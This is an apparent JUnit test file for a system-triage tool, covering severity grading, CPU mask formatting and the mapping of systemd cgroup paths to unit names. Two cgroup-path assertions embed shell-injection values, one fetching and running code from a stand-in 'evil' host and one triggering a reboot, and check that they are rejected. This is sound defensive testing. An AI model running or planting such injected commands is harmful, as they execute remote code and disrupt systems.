package io.triagebot.analysis.detectors;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.triagebot.analysis.Severity;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The small shared pieces: grading, CPU sets, systemd unit names, cgroup specificity. */
class HelpersTest {

    @Test
    void gradeTakesTheHighestLevelMetAndItsLargestRatio() {
        Grade g = new Grade().meet(Severity.HIGH, 3.0).meet(Severity.CRITICAL, 1.2).meet(Severity.CRITICAL, 1.5)
                .meet(Severity.CRITICAL, 0.9).meet(Severity.LOW, 50);
        assertEquals(Severity.CRITICAL, g.severity());
        assertEquals(1.5, g.score());
        assertFalse(new Grade().meet(Severity.HIGH, Double.NaN).meet(Severity.HIGH, 0.99).any());
        assertEquals(Severity.HIGH, new Grade().meet(Severity.CRITICAL, 2).cap(Severity.HIGH).severity());
        assertEquals(Grade.MAX_SCORE, new Grade().meet(Severity.LOW, 1e12).score());
    }

    @Test
    void ratios() {
        assertEquals(2.0, Grade.above(40, 20));
        assertEquals(0.0, Grade.above(0, 0));
        assertTrue(Grade.above(3, 0) > 1, "any positive value crosses a zero threshold");
        assertEquals(5.0, Grade.below(2, 10));
        assertTrue(Double.isNaN(Grade.above(Double.NaN, 1)));
    }

    @Test
    void cpuListsAndMasksAsTheKernelWritesThem() {
        assertEquals("0", CpuSets.list(List.of(0)));
        assertEquals("0,1", CpuSets.list(List.of(1, 0)));
        assertEquals("0,2-4,7", CpuSets.list(List.of(7, 0, 2, 3, 4)));
        assertEquals("e", CpuSets.mask(List.of(1, 2, 3)));
        assertEquals("1,00000000,00000000", CpuSets.mask(List.of(64)), "32-bit groups, as the kernel writes cpumasks");
        assertEquals("ff,ffffffff", CpuSets.mask(java.util.stream.IntStream.range(0, 40).boxed().toList()));
    }

    @Test
    void unitsOnlyFromSystemdNamedCgroups() {
        assertEquals("db.service", Cgroups.unit("/system.slice/db.service"));
        assertEquals("web.service", Cgroups.unit("/system.slice/app.slice/web.service"));
        assertEquals("system-getty\\x2dstatic.slice", Cgroups.unit("/system.slice/system-getty\\x2dstatic.slice"));
        // Anyone may name a cgroup: only the layout systemd makes for the system manager names a unit.
        assertNull(Cgroups.unit("/user.slice/user-1000.slice/session-3.scope"));
        assertNull(Cgroups.unit("/user.slice"));
        assertNull(Cgroups.unit("/user.slice/user-1000.slice/user@1000.service/x/postgresql.service"));
        assertNull(Cgroups.unit("/user.slice/user-1000.slice/user@1000.service/$(curl${IFS}evil|sh)/postgresql.service"));
        assertNull(Cgroups.unit("/system.slice/app.service/postgresql.service"), "a delegated service's own sub-group");
        assertNull(Cgroups.unit("/system.slice/$(reboot).slice/postgresql.service"));
        assertNull(Cgroups.unit("/kubepods.slice/postgresql.service"));
        assertNull(Cgroups.unit("/kubepods/burstable/pod1234/abcdef"));
        assertNull(Cgroups.unit("/triagebot-lab/oom"));
        assertNull(Cgroups.unit("/system.slice/db.service/worker"));
        assertNull(Cgroups.unit(null));
    }

    @Test
    void theMostSpecificCgroupExplainingMostOfAQuantityWins() {
        record G(String path, double v) {
        }
        List<G> groups = List.of(new G("/system.slice", 100), new G("/system.slice/a.service", 80), new G("/system.slice/b.service", 20));
        assertEquals("/system.slice/a.service", Cgroups.mostSpecific(groups, G::path, G::v).path());
        List<G> spread = List.of(new G("/system.slice", 100), new G("/system.slice/a.service", 40), new G("/system.slice/b.service", 40));
        assertEquals("/system.slice", Cgroups.mostSpecific(spread, G::path, G::v).path());
        assertNull(Cgroups.mostSpecific(List.of(new G("/x", 0)), G::path, G::v));
    }

    @Test
    void cgroupFilesForCommands() {
        assertEquals("/sys/fs/cgroup/a/cpu.stat", Cgroups.file("v2", "/a", 2, "cpu", "cpu.stat"));
        assertEquals("/sys/fs/cgroup/unified/a/cpu.pressure", Cgroups.file("hybrid", "/a", 2, "cpu", "cpu.pressure"));
        assertEquals("/sys/fs/cgroup/memory/a/memory.stat", Cgroups.file("hybrid", "/a", 1, "memory", "memory.stat"));
    }
}
